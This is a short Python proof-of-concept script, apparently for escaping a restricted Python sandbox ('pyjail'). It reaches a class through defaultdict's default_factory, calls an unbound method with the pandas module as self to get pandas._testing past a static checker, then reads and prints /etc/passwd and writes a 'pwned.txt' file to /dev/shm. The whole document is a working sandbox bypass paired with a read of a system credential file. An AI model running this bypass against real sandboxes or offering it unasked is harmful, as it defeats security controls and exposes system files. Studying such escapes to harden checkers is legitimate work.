# source: pyjail "unbound method with foreign self" trick (Python 2 style C.m(other)); the README's list of refusals in the static check class-as-value rule
# family: class held as a value via collections.defaultdict(C).default_factory (defaultdict(C) is allowed) -> method called with the pandas module as self -> self._testing
# goal: pandas._testing (not in the module table) -> decompress_file opens /etc/passwd; write_to_compressed writes /dev/shm
import pandas as pd


class Cfg:
    def __init__(self):
        self._testing = None

    def helper(self):
        return self._testing

    @classmethod
    def kind(cls):
        return cls


from collections import defaultdict
K = defaultdict(Cfg).default_factory
t = K.helper(pd)
print(t)
p = "/".join(["", "etc", "passwd"])
with t.decompress_file(p, None) as fh:
    print(fh.read().decode()[:300])
t.write_to_compressed("gzip", "/".join(["", "dev", "shm", "pwned.txt"]), b"written by script")
with t.decompress_file("/".join(["", "dev", "shm", "pwned.txt"]), "gzip") as fh:
    print(fh.read())
